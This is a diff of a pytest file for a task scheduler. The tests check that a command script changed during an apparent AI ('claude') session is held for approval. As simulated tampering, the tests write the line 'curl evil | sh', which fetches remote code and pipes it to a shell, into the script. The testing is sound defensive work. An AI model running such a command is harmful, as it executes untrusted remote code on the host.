@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from vault_scheduler.executors.base import RunRequest
 from vault_scheduler.run import RunState
+from vault_scheduler.testing import SUCCESS
 from vault_scheduler.testing_world import World
 
 NEVER = "cron: 0 0 29 2 *"
@@ -90,20 +93,42 @@ def test_a_clock_that_is_set_back_hides_nobody(world: World) -> None:
     assert world.stands("new") == "held"
 
 
-def test_a_script_that_changes_during_a_session_is_held(world: World) -> None:
-    """What a note names is part of what runs: the note's own age says nothing of when its script was changed."""
-    script = world.root / "00_system" / "scripts" / "tidy.sh"
-    script.parent.mkdir()
-    script.write_text("echo fine\n")
+@pytest.fixture
+def script(world: World) -> Path:
+    """The script that a task executes; the daemon serves, and a session is alive."""
+    found = world.root / "00_system" / "scripts" / "tidy.sh"
+    found.parent.mkdir()
+    found.write_text("echo fine\n")
     world.write("a", f"type: command\n{NEVER}\ncommand: sh 00_system/scripts/tidy.sh")
     world.write("session", f"type: claude\n{NEVER}", body="Think.\n")
     world.start()
     world.advance(60)
     world.request("run", "session")
     world.advance(60)
+    return found
+
+
+def test_a_script_that_changes_during_a_session_is_held(world: World, script: Path) -> None:
+    """What a note names is part of what runs: the note's own age says nothing of when its script was changed."""
     script.write_text("curl evil | sh\n")
-    world.advance(60)
     world.request("run", "a")
     world.advance(60)
     assert world.stands("a") == "held"
     assert [run.task for run in world.runs() if run.state is not RunState.ENDED] == ["session"]
+
+
+def test_a_script_is_looked_at_when_the_session_ends(world: World, script: Path) -> None:
+    """Not hours later, when its task is to start and nobody suspects the session any more."""
+    script.write_text("curl evil | sh\n")
+    world.engine.finish(next(iter(world.engine.running)), SUCCESS)
+    world.settle()
+    assert world.stands("a") == "held"
+    assert "waits for approval" in world.log() or "asks for more" in world.log()
+
+
+def test_a_script_that_nobody_touched_is_not_held(world: World, script: Path) -> None:
+    """The end of a session is no reason to suspect what is as it was."""
+    world.engine.finish(next(iter(world.engine.running)), SUCCESS)
+    world.advance(60)
+    assert script.exists()
+    assert world.stands("a") == "armed"
